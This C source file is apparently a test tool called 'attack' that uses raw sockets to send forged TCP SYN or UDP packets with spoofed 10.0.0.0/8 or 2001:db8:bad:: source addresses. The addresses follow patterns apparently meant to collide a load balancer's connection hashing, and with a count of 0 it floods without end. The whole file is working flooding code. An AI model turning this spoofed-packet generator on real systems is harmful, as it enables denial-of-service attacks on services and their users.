// SPDX-License-Identifier: GPL-2.0-only
/*
 * attack WHO tcp|udp N DST DPORT: forged SYNs or datagrams to DST, each from another client; N of them, or with 0 without end, until it
 * is told to end; the latter with pauses, so that where the director is this very machine there is time for it, and for others. Says
 * how many were sent. WHO are the clients, of 10.0.0.0/8 or 2001:db8:bad::/64:
 *
 *   random      any address, any port above 1023
 *   sequential  a thousand ports of an address, then of the next
 *   sum         address and port add up to the same
 *   xor         address and port are the same by exclusive or
 *   high        one port; addresses that differ in what is not their last byte
 */
#define _GNU_SOURCE
#include "wire.h"

#include <err.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <time.h>

struct client {
	uint32_t host;	/* the last bits of its address, host byte order */
	uint16_t port;
};

static volatile sig_atomic_t ended;

static void end(int signal)
{
	(void)signal;
	ended = 1;
}

static uint32_t any(uint32_t below)
{
	return random() % below;
}

static struct client client_random(uint32_t i)
{
	(void)i;
	return (struct client){ 1 + any((1 << 24) - 2), 1024 + any(64512) };
}

static struct client client_sequential(uint32_t i)
{
	return (struct client){ 0x10000 + i / 1000, 1024 + i % 1000 };
}

static struct client client_sum(uint32_t i)
{
	return (struct client){ 0x10000 + i % 60000, 65000 - i % 60000 };
}

static struct client client_xor(uint32_t i)
{
	return (struct client){ 0x10000 | (i % 32768), 0x8000 ^ (i % 32768) };
}

static struct client client_high(uint32_t i)
{
	return (struct client){ (1 + i % 65535) << 8 | 1, 4000 };
}

static const struct {
	const char *name;
	struct client (*at)(uint32_t i);
} whos[] = {
	{ "random", client_random }, { "sequential", client_sequential }, { "sum", client_sum }, { "xor", client_xor },
	{ "high", client_high },
};

union address {
	struct sockaddr sa;
	struct sockaddr_in in4;
	struct sockaddr_in6 in6;
};

struct attack {
	union address to;
	uint8_t proto;
	uint16_t port;
	struct client (*at)(uint32_t i);
};

static size_t forge_header(uint8_t *p, const struct attack *a, uint32_t host, size_t payload, uint32_t *pseudo)
{
	uint8_t both[32] = { 0x20, 0x01, 0x0d, 0xb8, 0x0b, 0xad };
	struct iphdr *ip = (struct iphdr *)p;
	struct ip6_hdr *ip6 = (struct ip6_hdr *)p;

	if (a->to.sa.sa_family == AF_INET) {
		*ip = (struct iphdr){ .version = 4, .ihl = 5, .tot_len = htons(sizeof(*ip) + payload), .ttl = 64,
				      .protocol = a->proto, .id = htons(1), .saddr = htonl(10 << 24 | host),
				      .daddr = a->to.in4.sin_addr.s_addr };
		ip->check = htons(~sum_fold(sum_bytes(ip, sizeof(*ip), 0)));
		*pseudo = sum_bytes(&ip->saddr, 8, a->proto + payload);
		return sizeof(*ip);
	}
	host = htonl(host);
	memcpy(both + 12, &host, 4);
	memcpy(both + 16, &a->to.in6.sin6_addr, 16);
	*ip6 = (struct ip6_hdr){ 0 };
	ip6->ip6_vfc = 0x60;
	ip6->ip6_plen = htons(payload);
	ip6->ip6_nxt = a->proto;
	ip6->ip6_hlim = 64;
	memcpy(&ip6->ip6_src, both, sizeof(both));
	*pseudo = sum_bytes(both, sizeof(both), a->proto + payload);
	return sizeof(*ip6);
}

static size_t forge(uint8_t *p, const struct attack *a, struct client c)
{
	struct tcphdr tcp = { .source = htons(c.port), .dest = htons(a->port), .doff = 5, .syn = 1, .window = htons(64000) };
	struct udphdr udp = { .source = htons(c.port), .dest = htons(a->port), .len = htons(sizeof(udp)) };
	uint32_t pseudo;
	size_t len;

	if (a->proto == IPPROTO_TCP) {
		len = forge_header(p, a, c.host, sizeof(tcp), &pseudo);
		tcp.check = htons(~sum_fold(sum_bytes(&tcp, sizeof(tcp), pseudo)));
		memcpy(p + len, &tcp, sizeof(tcp));
		return len + sizeof(tcp);
	}
	len = forge_header(p, a, c.host, sizeof(udp), &pseudo);
	udp.check = htons(~sum_fold(sum_bytes(&udp, sizeof(udp), pseudo)));
	memcpy(p + len, &udp, sizeof(udp));
	return len + sizeof(udp);
}

/* Packets without end come so many at a time, with so long in between. */
#define BURST	10
#define PAUSE	{ .tv_nsec = 10000000 }

static unsigned long run(const struct attack *a, unsigned long count)
{
	const bool v4 = a->to.sa.sa_family == AF_INET;
	int fd = socket(a->to.sa.sa_family, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	const struct timespec pause = PAUSE;
	unsigned long i;
	uint8_t packet[128];

	if (fd < 0)
		err(1, "socket");
	for (i = 0; !ended && (!count || i < count); i++) {
		size_t len = forge(packet, a, a->at(i));

		if (sendto(fd, packet, len, 0, &a->to.sa, v4 ? sizeof(a->to.in4) : sizeof(a->to.in6)) < 0 &&
		    errno != ENOBUFS && errno != EINTR)
			err(1, "send");
		if (!count && i % BURST == BURST - 1)
			nanosleep(&pause, NULL);
	}
	close(fd);
	return i;
}

int main(int argc, char **argv)
{
	struct attack a = { 0 };

	if (argc != 6)
		errx(2, "usage: attack WHO tcp|udp N DST DPORT");
	for (size_t i = 0; i < sizeof(whos) / sizeof(whos[0]); i++) {
		if (!strcmp(whos[i].name, argv[1]))
			a.at = whos[i].at;
	}
	if (!a.at)
		errx(2, "%s: no such clients", argv[1]);
	a.proto = strcmp(argv[2], "tcp") ? IPPROTO_UDP : IPPROTO_TCP;
	a.port = atoi(argv[5]);
	if (inet_pton(AF_INET, argv[4], &a.to.in4.sin_addr) == 1)
		a.to.sa.sa_family = AF_INET;
	else if (inet_pton(AF_INET6, argv[4], &a.to.in6.sin6_addr) == 1)
		a.to.sa.sa_family = AF_INET6;
	else
		errx(2, "%s: no address", argv[4]);
	srandom(time(NULL) << 20 ^ getpid());
	signal(SIGTERM, end);
	printf("%lu\n", run(&a, strtoul(argv[3], NULL, 0)));
	return 0;
}
